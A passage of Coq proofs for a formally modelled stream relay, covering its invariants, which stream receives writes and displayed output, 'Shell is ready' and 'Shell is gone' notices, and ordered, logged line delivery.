    destruct e as [[| | |]|]; try exact HT.
    + specialize (Q false). destruct (finish s x false) as [s2 o2]. apply (Tab_quiet s); assumption.
    + specialize (Q false). destruct (finish s x false) as [s2 o2]. apply (Tab_quiet s); assumption.
    + specialize (Q false). destruct (finish s x false) as [s2 o2]. apply (Tab_quiet s); assumption.
    + specialize (Q true). destruct (finish s x true) as [s2 o2]. apply (Tab_quiet s); assumption.
  - generalize (ctx_mates s id). intros l.
    assert (G : forall acc, Tab (fst acc) ->
      Tab (fst (fold_left (fun acc i => let '(sa, oa) := acc in let '(sb, ob) := cancel_one sa i in (sb, obs_app oa ob)) l acc))).
    { induction l as [|i l IH]; intros acc Ha; [exact Ha|]. cbn [fold_left]. apply IH.
      destruct acc as [sa oa]. cbn [fst] in Ha. pose proof (quiet_cancel_one sa i (t_nodup _ Ha)) as Hc.
      destruct (cancel_one sa i) as [sb ob]. cbn [fst] in *. apply (Tab_quiet sa); assumption. }
    apply G. exact HT.
  - destruct (get s id) as [x|] eqn:Eg; [|exact HT]. destruct (st_ph x) eqn:Ep; try exact HT.
    destruct (get_In _ _ _ Eg) as [_ Eid]. apply Tab_release; try assumption.
    + rewrite Eid. exact Eg.
    + unfold busy. rewrite Ep. reflexivity.
  - destruct HT as [T1 T2 T3]. constructor; assumption.
  - exact HT.
  - exact HT.
  - exact HT.
Qed.

(** * Reachable states satisfy both invariants *)
Lemma Both_run_from ops : forall s, Inv s -> Tab s -> Inv (fst (run_from s ops)) /\ Tab (fst (run_from s ops)).
Proof.
  induction ops as [|o ops IH]; intros s HI HT; [split; assumption|].
  cbn [run_from]. pose proof (Inv_step s o HI) as H1. pose proof (Tab_step s o HI HT) as H2.
  destruct (step s o) as [s1 ob]. cbn [fst] in H1, H2.
  specialize (IH s1 H1 H2). destruct (run_from s1 ops) as [s2 obs]. exact IH.
Qed.
Theorem Tab_reachable ops : Tab (fst (run ops)).
Proof. apply Both_run_from; [apply Inv_init | apply Tab_init]. Qed.

(** * Who gets I/O *)
Definition wid (w : wev) : N :=
  match w with WWrite s _ | WWriteFail s _ | WFlush s _ | WFlushFail s _ => s end.
Definition notes_only (o : sobs) : Prop :=
  Forall (fun x => match x with ONote _ _ => True | OPlain _ => False end) (o_och o).
Definition w_for (id : N) (o : sobs) : Prop := Forall (fun w => wid w = id) (o_w o).

Lemma notes_app a b : notes_only a -> notes_only b -> notes_only (obs_app a b).
Proof. unfold notes_only. cbn. intros. apply Forall_app. split; assumption. Qed.
Lemma w_for_app id a b : w_for id a -> w_for id b -> w_for id (obs_app a b).
Proof. unfold w_for. cbn. intros. apply Forall_app. split; assumption. Qed.
Lemma notes_no_obs : notes_only no_obs.  Proof. constructor. Qed.
Lemma w_for_no_obs id : w_for id no_obs.  Proof. constructor. Qed.

Lemma finish_shape s x e : notes_only (snd (finish s x e)) /\ o_w (snd (finish s x e)) = [].
Proof.
  cbn [finish snd]. split; [|reflexivity]. unfold notes_only. cbn.
  destruct (negb (is_bidir (sd_key (st_d x))) || e); repeat constructor.
Qed.

Lemma deliver_shape fuel : forall s x,
  notes_only (snd (deliver fuel s x)) /\ w_for (st_id x) (snd (deliver fuel s x)).
Proof.
  induction fuel as [|f IH]; intros s x; [split; constructor|].
  cbn [deliver]. destruct (queue s) as [|l q]; [split; constructor|].
  destruct (optN_eqb (sd_wfail (st_d x)) (st_nw x)).
  - match goal with |- context [finish ?a ?b ?c] =>
      destruct (finish_shape a b c) as [F1 F2]; destruct (finish a b c) as [s2 o] end.
    cbn [snd] in *. split.
    + apply notes_app; [constructor | exact F1].
    + apply w_for_app; [repeat constructor | unfold w_for; rewrite F2; constructor].
  - destruct (sd_wk (st_d x)).
    + match goal with |- context [deliver f ?a ?b] =>
        destruct (IH a b) as [D1 D2]; destruct (deliver f a b) as [s2 o] end.
      cbn [snd st_id] in *. split; [apply notes_app; [constructor | exact D1]|].
      apply w_for_app; [repeat constructor | exact D2].
    + match goal with |- context [if ?c then _ else _] => destruct c end.
      * match goal with |- context [finish ?a ?b ?c] =>
          destruct (finish_shape a b c) as [F1 F2]; destruct (finish a b c) as [s2 o] end.
        cbn [snd] in *. split; [apply notes_app; [constructor | exact F1]|].
        apply w_for_app; [repeat constructor | unfold w_for; rewrite F2; constructor].
      * match goal with |- context [deliver f ?a ?b] =>
          destruct (IH a b) as [D1 D2]; destruct (deliver f a b) as [s2 o] end.
        cbn [snd st_id] in *. split; [apply notes_app; [constructor | exact D1]|].
        apply w_for_app; [|exact D2]. unfold w_for. cbn.
        match goal with |- context [if ?c then _ else _] => destruct c end; repeat constructor.
    + match goal with |- context [if ?c then _ else _] => destruct c end.
      * match goal with |- context [finish ?a ?b ?c] =>
          destruct (finish_shape a b c) as [F1 F2]; destruct (finish a b c) as [s2 o] end.
        cbn [snd] in *. split; [apply notes_app; [constructor | exact F1]|].
        apply w_for_app; [repeat constructor | unfold w_for; rewrite F2; constructor].
      * match goal with |- context [deliver f ?a ?b] =>
          destruct (IH a b) as [D1 D2]; destruct (deliver f a b) as [s2 o] end.
        cbn [snd st_id] in *. split; [apply notes_app; [constructor | exact D1]|].
        apply w_for_app; [|exact D2]. unfold w_for. cbn.
        match goal with |- context [if ?c then _ else _] => destruct c end; repeat constructor.
    + match goal with |- context [if ?c then _ else _] => destruct c end.
      * match goal with |- context [finish ?a ?b ?c] =>
          destruct (finish_shape a b c) as [F1 F2]; destruct (finish a b c) as [s2 o] end.
        cbn [snd] in *. split; [apply notes_app; [constructor | exact F1]|].
        apply w_for_app; [repeat constructor | unfold w_for; rewrite F2; constructor].
      * match goal with |- context [deliver f ?a ?b] =>
          destruct (IH a b) as [D1 D2]; destruct (deliver f a b) as [s2 o] end.
        cbn [snd st_id] in *. split; [apply notes_app; [constructor | exact D1]|].
        apply w_for_app; [|exact D2]. unfold w_for. cbn.
        match goal with |- context [if ?c then _ else _] => destruct c end; repeat constructor.
Qed.

Lemma pump_in_shape s id : notes_only (snd (pump_in s id)) /\ w_for id (snd (pump_in s id)).
Proof.
  unfold pump_in. destruct (get s id) as [x|] eqn:Eg; [|split; constructor].
  destruct (get_In _ _ _ Eg) as [_ Eid].
  destruct (st_ph x); try (split; constructor).
  destruct (deliver_shape (S (length (queue s))) s x) as [D1 D2]. rewrite Eid in D2.
  destruct (deliver (S (length (queue s))) s x) as [s1 o1]. cbn [snd] in *.
  destruct (get s1 id) as [x1|]; [|split; assumption].
  destruct (st_ph x1); try (split; assumption).
  destruct (queue s1); [|split; assumption]. destruct (ich_closed s1); [|split; assumption].
  destruct (finish_shape s1 x1 false) as [F1 F2]. destruct (finish s1 x1 false) as [s2 o2]. cbn [snd] in *.
  split; [apply notes_app; assumption | apply w_for_app; [exact D2 | unfold w_for; rewrite F2; constructor]].
Qed.

(** Writes go to the stream that owns the input slot — and to nobody else. *)
Theorem writes_go_to_cin s o : Inv s -> Tab s ->
  forall w, In w (o_w (snd (step s o))) -> exists sd, cin (fst (step s o)) = Some (wid w, sd).
Proof.
  intros HI HT w. unfold step.
  match goal with |- In w (o_w (snd (let '(s', ob) := ?e in with_do s' ob))) -> _ =>
    assert (H : In w (o_w (snd e)) -> exists sd, cin (fst e) = Some (wid w, sd));
    [|destruct e as [s' ob]; exact H] end.
  destruct o as [id d|si so di do_|id|l| |id data e|id|id| |n|id|id l]; try (intros []).
  - (* OAdmit *)
    destruct (get s id) eqn:Eg; [intros []|]. rewrite (get_add_same s id d PParked Eg).
    set (x := {| st_id := id; st_d := d; st_ph := PParked; st_nw := 0; st_nf := 0 |}).
    set (s0 := add_stream s id d PParked).
    destruct (accepts s0 x) eqn:Ea.
    + destruct (admission_accepts s0 x Ea) as [Hs _].
      unfold admission. unfold accepts in Ea. repeat (apply andb_true_iff in Ea as [Ea ?]).
      match goal with H : negb (nomore s0) = true |- _ => apply negb_true_iff in H; rewrite H end.
      match goal with H : negb (key_missing _) = true |- _ => apply negb_true_iff in H; rewrite H end.
      match goal with H : negb (_ && _) = true |- _ => apply negb_true_iff in H; rewrite H end.
      destruct (slot s0 (sd_dir (st_d x))) as [v|] eqn:Es; [discriminate|].
      assert (Hbk : (match bkey s0 with Some k' => negb (key_eqb (sd_key (st_d x)) k') | None => false end) = false).
      { destruct (bkey s0); [|reflexivity]. match goal with H : key_eqb _ _ = true |- _ => rewrite H end. reflexivity. }
      rewrite Hbk. destruct (sd_dir (st_d x)) eqn:Ed; [|intros []].
      match goal with |- context [pump_in ?a ?b] =>
        destruct (pump_in_shape a b) as [_ P2]; pose proof (slots_pump_in a b) as Hp;
        destruct (pump_in a b) as [s2 o2] end.
      cbn [fst snd] in *. intros Hin. cbn in Hin.
      unfold w_for in P2. rewrite Forall_forall in P2. rewrite (P2 w Hin).
      unfold slots in Hp. inversion Hp as [[E1 E2 E3 E4]]. rewrite E2. cbn. eexists. reflexivity.
    + destruct (admission_refuses s0 x Ea) as (_ & _ & _ & Ew & _). rewrite Ew. intros [].
  - (* OIoReq *)
    destruct (get s si); [intros []|]. destruct (get s so); [intros []|]. destruct (si =? so); intros [].
  - (* OGo *)
    destruct (get s id) as [x|] eqn:Eg; [|intros []]. destruct (st_ph x); try (intros []).
    destruct (accepts s x) eqn:Ea.
    + unfold admission. unfold accepts in Ea. repeat (apply andb_true_iff in Ea as [Ea ?]).
      match goal with H : negb (nomore s) = true |- _ => apply negb_true_iff in H; rewrite H end.
      match goal with H : negb (key_missing _) = true |- _ => apply negb_true_iff in H; rewrite H end.
      match goal with H : negb (_ && _) = true |- _ => apply negb_true_iff in H; rewrite H end.
      destruct (slot s (sd_dir (st_d x))) as [v|] eqn:Es; [discriminate|].
      assert (Hbk : (match bkey s with Some k' => negb (key_eqb (sd_key (st_d x)) k') | None => false end) = false).
      { destruct (bkey s); [|reflexivity]. match goal with H : key_eqb _ _ = true |- _ => rewrite H end. reflexivity. }
      rewrite Hbk. destruct (sd_dir (st_d x)) eqn:Ed; [|intros []].
      match goal with |- context [pump_in ?a ?b] =>
        destruct (pump_in_shape a b) as [_ P2]; pose proof (slots_pump_in a b) as Hp;
        destruct (pump_in a b) as [s2 o2] end.
      cbn [fst snd] in *. intros Hin. cbn in Hin.
      unfold w_for in P2. rewrite Forall_forall in P2. rewrite (P2 w Hin).
      unfold slots in Hp. inversion Hp as [[E1 E2 E3 E4]]. rewrite E2. cbn. eexists. reflexivity.
    + destruct (admission_refuses s x Ea) as (_ & _ & _ & Ew & _). rewrite Ew. intros [].
  - (* OLine *)
    destruct (ich_closed s); [intros []|].
    match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] eqn:E end; [|intros []].
    match goal with |- context [pump_in ?a ?b] =>
      destruct (pump_in_shape a b) as [_ P2]; pose proof (slots_pump_in a b) as Hp;
      destruct (pump_in a b) as [s2 o2] end.
    cbn [fst snd] in *. intros Hin. unfold w_for in P2. rewrite Forall_forall in P2. rewrite (P2 w Hin).
    unfold slots in Hp. inversion Hp as [[E1 E2 E3 E4]]. rewrite E2. cbn in E. rewrite E. eexists. reflexivity.
  - (* OCloseIch *)
    match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] eqn:E end; [|intros []].
    match goal with |- context [pump_in ?a ?b] =>
      destruct (pump_in_shape a b) as [_ P2]; pose proof (slots_pump_in a b) as Hp;
      destruct (pump_in a b) as [s2 o2] end.
    cbn [fst snd] in *. intros Hin. unfold w_for in P2. rewrite Forall_forall in P2. rewrite (P2 w Hin).
    unfold slots in Hp. inversion Hp as [[E1 E2 E3 E4]]. rewrite E2. cbn in E. rewrite E. eexists. reflexivity.
  - (* OData *)
    destruct (get s id) as [x|]; [|intros []]. destruct (st_ph x); try (intros []).
    destruct (sd_dir (st_d x)); try (intros []).
    destruct e as [[| | |]|]; cbn; intros [].
  - (* OCancel *)
    generalize (ctx_mates s id). intros l.
    assert (G : forall acc, o_w (snd acc) = [] ->
      o_w (snd (fold_left (fun acc i => let '(sa, oa) := acc in let '(sb, ob) := cancel_one sa i in (sb, obs_app oa ob)) l acc)) = []).
    { induction l as [|i l IH]; intros acc Ha; [exact Ha|]. cbn [fold_left]. apply IH.
      destruct acc as [sa oa]. unfold cancel_one. destruct (get sa i) as [x|]; [|cbn in *; rewrite Ha; reflexivity].
      destruct (st_ph x); cbn in *; rewrite Ha; reflexivity. }
    rewrite G; [intros [] | reflexivity].
  - (* ORelease *)
    destruct (get s id) as [x|]; [|intros []]. destruct (st_ph x); try (intros []).
    unfold release.
    match goal with |- context [slot ?a ?b] => destruct (slot a b) as [[p pd]|] end; [|intros []].
    match goal with |- context [get ?a p] => destruct (get a p) as [px|] end; [|intros []].
    destruct (st_ph px); cbn; intros [].
Qed.

(** Output is displayed only in a read step of the stream that owns the output slot. *)
Theorem plain_comes_from_cout s o : Tab s ->
  forall d, In (OPlain d) (o_och (snd (step s o))) ->
  exists id e sd, o = OData id d e /\ cout s = Some (id, sd).
Proof.
  intros HT d. unfold step.
  match goal with |- In _ (o_och (snd (let '(s', ob) := ?e in with_do s' ob))) -> _ =>
    assert (H : In (OPlain d) (o_och (snd e)) -> exists id e0 sd, o = OData id d e0 /\ cout s = Some (id, sd));
    [|destruct e as [s' ob]; exact H] end.
  assert (NP : forall ob, notes_only ob -> In (OPlain d) (o_och ob) -> False).
  { intros ob Hn Hin. unfold notes_only in Hn. rewrite Forall_forall in Hn. exact (Hn _ Hin). }
  assert (ADM : forall s0 x, notes_only (snd (admission s0 x))).
  { intros s0 x. unfold admission.
    destruct (nomore s0); [constructor|].
    destruct (key_missing _); [repeat constructor|].
    match goal with |- context [if ?c then refuse _ _ LTeardown else _] => destruct c end; [repeat constructor|].
    match goal with |- context [if ?c then refuse _ _ LDup else _] => destruct c end; [repeat constructor|].
    match goal with |- context [if ?c then refuse _ _ LBadKey else _] => destruct c end; [repeat constructor|].
    assert (N0 : forall (b1 b2 : bool) a c, Forall (fun x0 => match x0 with ONote _ _ => True | OPlain _ => False end)
              ((if b1 then [] else [ONote NConnected a]) ++ (if b2 then [ONote NReady c] else []))).
    { intros b1 b2 a c. destruct b1, b2; repeat constructor. }
    destruct (sd_dir (st_d x)).
    - match goal with |- context [pump_in ?a ?b] =>
        destruct (pump_in_shape a b) as [P1 _]; destruct (pump_in a b) as [s2 o2] end.
      cbn [snd] in *. apply notes_app; [apply N0 | exact P1].
    - apply N0. }
  destruct o as [id dd|si so di do_|id|l| |id data e|id|id| |n|id|id l]; try (intros []).
  - destruct (get s id); [intros []|].
    match goal with |- context [get ?a id] => destruct (get a id) as [x|] end; [|intros []].
    intros Hin. exfalso. eapply NP; [apply ADM | exact Hin].
  - destruct (get s si); [intros []|]. destruct (get s so); [intros []|]. destruct (si =? so); intros [].
  - destruct (get s id) as [x|]; [|intros []]. destruct (st_ph x); try (intros []).
    intros Hin. exfalso. eapply NP; [apply ADM | exact Hin].
  - destruct (ich_closed s); [intros []|].
    match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] end; [|intros []].
    match goal with |- context [pump_in ?a ?b] => destruct (pump_in_shape a b) as [P1 _]; destruct (pump_in a b) as [s2 o2] end.
    cbn [snd] in *. intros Hin. exfalso. exact (NP _ P1 Hin).
  - match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] end; [|intros []].
    match goal with |- context [pump_in ?a ?b] => destruct (pump_in_shape a b) as [P1 _]; destruct (pump_in a b) as [s2 o2] end.
    cbn [snd] in *. intros Hin. exfalso. exact (NP _ P1 Hin).
  - (* OData: the only source of displayed output *)
    destruct (get s id) as [x|] eqn:Eg; [|intros []].
    destruct (st_ph x) eqn:Ep; try (intros []). destruct (sd_dir (st_d x)) eqn:Ed; try (intros []).
    destruct (get_In _ _ _ Eg) as [Hx Eid].
    assert (Hc : cout s = Some (id, st_d x)).
    { destruct HT as [_ T2 _]. specialize (T2 (st_id x) (st_d x)). rewrite Ed, Eid in T2. apply T2.
      unfold sigs. apply in_map_iff. exists x. split; [unfold sig1, busy; rewrite Ep, Eid; reflexivity | exact Hx]. }
    assert (Hd : In (OPlain d) (match data with [] => [] | _ => [OPlain data] end) -> d = data).
    { destruct data; [intros [] | intros [H|[]]; inversion H; reflexivity]. }
    destruct e as [[| | |]|]; cbn; intros Hin;
      try (apply in_app_or in Hin as [Hin|Hin];
           [|exfalso; destruct (negb (is_bidir (sd_key (st_d x))) || _) in Hin; cbn in Hin;
             repeat (destruct Hin as [Hin|Hin]; [discriminate|]); exact Hin]);
      rewrite (Hd Hin); eexists _, _, _; split; reflexivity || exact Hc.
  - generalize (ctx_mates s id). intros l.
    assert (G : forall acc, notes_only (snd acc) ->
      notes_only (snd (fold_left (fun acc i => let '(sa, oa) := acc in let '(sb, ob) := cancel_one sa i in (sb, obs_app oa ob)) l acc))).
    { induction l as [|i l IH]; intros acc Ha; [exact Ha|]. cbn [fold_left]. apply IH.
      destruct acc as [sa oa]. unfold cancel_one. destruct (get sa i) as [x|]; [|apply notes_app; [exact Ha | constructor]].
      destruct (st_ph x); try (apply notes_app; [exact Ha | constructor]).
      destruct (finish_shape sa x false) as [F1 _]. destruct (finish sa x false) as [sb ob]. cbn [snd] in *.
      apply notes_app; assumption. }
    intros Hin. exfalso. eapply NP; [apply (G (s, no_obs)); exact notes_no_obs | exact Hin].
  - destruct (get s id) as [x|]; [|intros []]. destruct (st_ph x); try (intros []).
    unfold release.
    match goal with |- context [slot ?a ?b] => destruct (slot a b) as [[p pd]|] end.
    + match goal with |- context [get ?a p] => destruct (get a p) as [px|] end; [|intros []].
      destruct (st_ph px); try (intros []).
      match goal with |- context [finish ?a ?b ?c] => destruct (finish_shape a b c) as [F1 _]; destruct (finish a b c) as [s3 o3] end.
      cbn [snd] in *. intros Hin. cbn in Hin. exfalso. exact (NP _ F1 Hin).
    + cbn. intros [H|[]]. discriminate.
Qed.

(** * C04: announcements and re-arming *)
Lemma rearm s x : Inv s -> cin s = None -> cout s = None -> nomore s = false ->
  key_missing (sd_key (st_d x)) = false -> accepts s x = true.
Proof.
  intros [_ _ _ _ H5 _] E1 E2 En Ek. unfold accepts. rewrite En, Ek, (H5 E1 E2), E1, E2.
  destruct (sd_dir (st_d x)); cbn; rewrite ?E1, ?E2; reflexivity.
Qed.

(** 'Shell is gone' and the disconnected event: exactly when the release empties the last slot. *)
Lemma release_gone s x :
  (slot s (other (sd_dir (st_d x))) = None ->
     o_och (snd (release s x)) = [ONote NGone (sd_addr (st_d x))] /\
     o_ev (snd (release s x)) = evs s [EDisc] /\
     cin (fst (release s x)) = None /\ cout (fst (release s x)) = None /\ bkey (fst (release s x)) = None) /\
  (slot s (other (sd_dir (st_d x))) <> None ->
     ~ In (ONote NGone (sd_addr (st_d x))) (o_och (snd (release s x))) /\ o_ev (snd (release s x)) = []).
Proof.
  unfold release. set (d := sd_dir (st_d x)).
  assert (Es : slot (set_slot (set_key (upd s (set_phase x PDone)) None) d None) (other d) = slot s (other d))
    by (rewrite slot_set_other; reflexivity).
  split; intros H.
  - rewrite Es, H. cbn [fst snd]. repeat split; try reflexivity; destruct d; cbn in *; try reflexivity; exact H.
  - rewrite Es. destruct (slot s (other d)) as [[p pd]|]; [|congruence].
    match goal with |- context [get ?a p] => destruct (get a p) as [px|] end; [|split; [intros [] | reflexivity]].
    destruct (st_ph px); try (split; [intros [] | reflexivity]).
    cbn. split; [|reflexivity].
    destruct (negb (is_bidir (sd_key (st_d px))) || false); cbn; intros Hin;
      repeat (destruct Hin as [Hin|Hin]; [discriminate|]); exact Hin.
Qed.

(** The peer of a released stream is cancelled and, if its proxy was still running, has ended in the same step. *)
Lemma release_ends_peer s x p pd : slot s (other (sd_dir (st_d x))) = Some (p, pd) ->
  In p (cancelled (fst (release s x))) /\
  forall px, get (upd s (set_phase x PDone)) p = Some px -> st_ph px = PAttached ->
    In (Log (LDisc false) p) (o_log (snd (release s x))).
Proof.
  intros H. unfold release. set (d := sd_dir (st_d x)).
  assert (Es : slot (set_slot (set_key (upd s (set_phase x PDone)) None) d None) (other d) = Some (p, pd))
    by (rewrite slot_set_other; exact H).
  rewrite Es.
  match goal with |- context [get ?a p] => set (s2 := a) end.
  assert (Eg : get s2 p = get (upd s (set_phase x PDone)) p) by reflexivity.
  split.
  - destruct (get s2 p) as [px|]; [destruct (st_ph px)|]; unfold finish; cbn [fst snd cancelled upd]; unfold s2; cbn [cancelled]; left; reflexivity.
  - intros px Hg Hp. rewrite Eg, Hg, Hp.
    destruct (get_In _ _ _ Hg) as [_ Eid]. cbn. rewrite Eid. left. reflexivity.
Qed.

(** 'Shell is ready' and the connected event: exactly when an accepted stream finds the other slot occupied. *)
Lemma admission_ready s x : accepts s x = true ->
  (In (ONote NReady (sd_addr (st_d x))) (o_och (snd (admission s x))) <->
   slot s (other (sd_dir (st_d x))) <> None).
Proof.
  intros Ea. unfold admission. unfold accepts in Ea. repeat (apply andb_true_iff in Ea as [Ea ?]).
  match goal with H : negb (nomore s) = true |- _ => apply negb_true_iff in H; rewrite H end.
  match goal with H : negb (key_missing _) = true |- _ => apply negb_true_iff in H; rewrite H end.
  match goal with H : negb (_ && _) = true |- _ => apply negb_true_iff in H; rewrite H end.
  destruct (slot s (sd_dir (st_d x))) as [v|] eqn:Es; [discriminate|].
  assert (Hbk : (match bkey s with Some k' => negb (key_eqb (sd_key (st_d x)) k') | None => false end) = false).
  { destruct (bkey s); [|reflexivity]. match goal with H : key_eqb _ _ = true |- _ => rewrite H end. reflexivity. }
  rewrite Hbk.
  assert (P : forall tail, notes_only tail ->
     (forall a, ~ In (ONote NReady a) (o_och tail)) ->
     (In (ONote NReady (sd_addr (st_d x)))
         (((if is_bidir (sd_key (st_d x)) then [] else [ONote NConnected (st_id x)]) ++
           (if match slot s (other (sd_dir (st_d x))) with Some _ => true | None => false end
            then [ONote NReady (sd_addr (st_d x))] else [])) ++ o_och tail)
      <-> slot s (other (sd_dir (st_d x))) <> None)).
  { intros tail _ Ht. destruct (slot s (other (sd_dir (st_d x)))) as [v|]; split; intros Hx; try congruence.
    - apply in_or_app. left. apply in_or_app. right. left. reflexivity.
    - exfalso. apply in_app_or in Hx as [Hx|Hx]; [|exact (Ht _ Hx)].
      apply in_app_or in Hx as [Hx|[]]. destruct (is_bidir _); [destruct Hx | destruct Hx as [Hx|[]]; discriminate]. }
  destruct (sd_dir (st_d x)) eqn:Ed.
  - (* the input proxy may add closure notices, never a ready notice *)
    match goal with |- context [pump_in ?a ?b] => set (pa := a); set (pb := b) end.
    assert (NR : forall a, ~ In (ONote NReady a) (o_och (snd (pump_in pa pb)))).
    { intros a. unfold pump_in. destruct (get pa pb) as [y|]; [|intros []].
      destruct (st_ph y); try (intros []).
      assert (DR : forall fuel s0 y0, ~ In (ONote NReady a) (o_och (snd (deliver fuel s0 y0)))).
      { induction fuel as [|f IH]; intros s0 y0; [intros []|]. cbn [deliver].
        destruct (queue s0); [intros []|].
        assert (FN : forall s1 y1 e, ~ In (ONote NReady a) (o_och (snd (finish s1 y1 e)))).
        { intros s1 y1 e. cbn. destruct (negb (is_bidir (sd_key (st_d y1))) || e); cbn; intros Hin;
            repeat (destruct Hin as [Hin|Hin]; [discriminate|]); exact Hin. }
        destruct (optN_eqb _ _).
        - match goal with |- context [finish ?q ?w ?e] => pose proof (FN q w e) as F; destruct (finish q w e) end. exact F.
        - destruct (sd_wk (st_d y0)).
          + match goal with |- context [deliver f ?q ?w] => pose proof (IH q w) as F; destruct (deliver f q w) end. exact F.
          + match goal with |- context [if ?c then _ else _] => destruct c end.
            * match goal with |- context [finish ?q ?w ?e] => pose proof (FN q w e) as F; destruct (finish q w e) end. exact F.
            * match goal with |- context [deliver f ?q ?w] => pose proof (IH q w) as F; destruct (deliver f q w) end. exact F.
          + match goal with |- context [if ?c then _ else _] => destruct c end.
            * match goal with |- context [finish ?q ?w ?e] => pose proof (FN q w e) as F; destruct (finish q w e) end. exact F.
            * match goal with |- context [deliver f ?q ?w] => pose proof (IH q w) as F; destruct (deliver f q w) end. exact F.
          + match goal with |- context [if ?c then _ else _] => destruct c end.
            * match goal with |- context [finish ?q ?w ?e] => pose proof (FN q w e) as F; destruct (finish q w e) end. exact F.
            * match goal with |- context [deliver f ?q ?w] => pose proof (IH q w) as F; destruct (deliver f q w) end. exact F. }
      pose proof (DR (S (length (queue pa))) pa y) as D1.
      destruct (deliver (S (length (queue pa))) pa y) as [s1 o1]. cbn [snd] in *.
      destruct (get s1 pb) as [y1|]; [|exact D1]. destruct (st_ph y1); try exact D1.
      destruct (queue s1); [|exact D1]. destruct (ich_closed s1); [|exact D1].
      cbn. intros Hin. apply in_app_or in Hin as [Hin|Hin]; [exact (D1 Hin)|].
      destruct (negb (is_bidir (sd_key (st_d y1))) || false); cbn in Hin;
        repeat (destruct Hin as [Hin|Hin]; [discriminate|]); exact Hin. }
    destruct (pump_in_shape pa pb) as [P1 _]. destruct (pump_in pa pb) as [s2 o2]. cbn [snd] in *.
    apply (P o2 P1 NR).
  - cbn [snd o_och]. specialize (P no_obs notes_no_obs (fun a H => H)). cbn in P. rewrite app_nil_r in P. exact P.
Qed.

(** Do may return only when shut down with both slots empty. *)
Lemma do_done_slots s : Tab s -> do_done s = true -> nomore s = true /\ cin s = None /\ cout s = None.
Proof.
  intros [_ _ T3] H. unfold do_done in H. apply andb_true_iff in H as [H1 H2]. split; [exact H1|].
  apply negb_true_iff in H2.
  assert (G : forall dr, slot s dr = None).
  { intros dr. destruct (slot s dr) as [[id d]|] eqn:E; [|reflexivity]. exfalso.
    apply T3 in E. apply in_sigs in E as (y & Hy & Ey). unfold sig1 in Ey. inversion Ey as [[E1 E2 E3]].
    assert (existsb busy (streams s) = true); [|congruence].
    apply existsb_exists. exists y. split; [exact Hy | symmetry; exact E3]. }
  split; [exact (G DIn) | exact (G DOut)].
Qed.

(** * C02 / C11: what the input proxy does with the queue *)
Definition w_data (w : wev) : list bytes :=
  match w with WWrite _ d | WWriteFail _ d => [d] | _ => [] end.
Definition nl (l : bytes) : bytes := l ++ [10].

(** Lines written (successfully or not), in order, followed by the lines still
    queued, are exactly the lines that were queued: nothing skipped, repeated,
    reordered or modified; exactly one newline appended. *)
Lemma deliver_order fuel : forall s x,
  flat_map w_data (o_w (snd (deliver fuel s x))) ++ map nl (queue (fst (deliver fuel s x))) = map nl (queue s).
Proof.
  induction fuel as [|f IH]; intros s x; [reflexivity|].
  cbn [deliver]. destruct (queue s) as [|l q] eqn:Eq; [cbn; rewrite Eq; reflexivity|].
  destruct (optN_eqb (sd_wfail (st_d x)) (st_nw x)).
  - cbn. reflexivity.
  - destruct (sd_wk (st_d x)).
    + match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst snd] in *. cbn. cbn in IH. rewrite IH. reflexivity.
    + match goal with |- context [if ?c then _ else _] => destruct c eqn:Ec end; [cbn; reflexivity|].
      match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst snd] in *. cbn. cbn in IH.
      match goal with |- context [if ?c then _ else _] => destruct c end; cbn; rewrite IH; reflexivity.
    + match goal with |- context [if ?c then _ else _] => destruct c eqn:Ec end; [cbn; reflexivity|].
      match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst snd] in *. cbn. cbn in IH.
      match goal with |- context [if ?c then _ else _] => destruct c end; cbn; rewrite IH; reflexivity.
    + match goal with |- context [if ?c then _ else _] => destruct c eqn:Ec end; [cbn; reflexivity|].
      match goal with |- context [deliver f ?a ?b] => specialize (IH a b); destruct (deliver f a b) as [s2 o] end.
      cbn [fst snd] in *. cbn. cbn in IH.
      match goal with |- context [if ?c then _ else _] => destruct c end; cbn; rewrite IH; reflexivity.
Qed.

(** Every line written has exactly one 'Shell I/O' record, in order — except
    possibly the last one, and then only because its own write or flush failed
    and ended the stream (which is logged as a disconnect with an error). *)
Definition lio (r : lrec) : list bytes := match r with Log (LIO d) _ => [d] | _ => [] end.

Lemma deliver_logged fuel : forall s x, exists last,
  flat_map w_data (o_w (snd (deliver fuel s x))) = flat_map lio (o_log (snd (deliver fuel s x))) ++ last /\
  (length last <= 1)%nat /\
  (last <> [] -> In (Log (LDisc true) (st_id x)) (o_log (snd (deliver fuel s x)))).
Proof.
  induction fuel as [|f IH]; intros s x; [exists []; repeat split; [cbn; lia | congruence]|].
  cbn [deliver]. destruct (queue s) as [|l q]; [exists []; repeat split; [cbn; lia | congruence]|].
  destruct (optN_eqb (sd_wfail (st_d x)) (st_nw x)).
  - exists [l ++ [10]]. cbn. repeat split; [lia|]. intros _. left. reflexivity.
  - destruct (sd_wk (st_d x)).
    + match goal with |- context [deliver f ?a ?b] =>
        destruct (IH a b) as (last & E & Hl & Hd); destruct (deliver f a b) as [s2 o] end.
      cbn [fst snd st_id] in *. exists last. cbn. rewrite E. repeat split; [exact Hl|].
      intros Hn. right. exact (Hd Hn).
    + match goal with |- context [if ?c then _ else _] => destruct c eqn:Ec end.
      * exists [l ++ [10]]. cbn. repeat split; [lia|]. intros _. left. reflexivity.
      * match goal with |- context [deliver f ?a ?b] =>
          destruct (IH a b) as (last & E & Hl & Hd); destruct (deliver f a b) as [s2 o] end.
        cbn [fst snd st_id] in *. exists last.
        match goal with |- context [if ?c then _ else _] => destruct c end; cbn; rewrite E;
          (repeat split; [exact Hl | intros Hn; right; exact (Hd Hn)]).
    + match goal with |- context [if ?c then _ else _] => destruct c eqn:Ec end.
      * exists [l ++ [10]]. cbn. repeat split; [lia|]. intros _. left. reflexivity.
      * match goal with |- context [deliver f ?a ?b] =>
          destruct (IH a b) as (last & E & Hl & Hd); destruct (deliver f a b) as [s2 o] end.
        cbn [fst snd st_id] in *. exists last.
        match goal with |- context [if ?c then _ else _] => destruct c end; cbn; rewrite E;
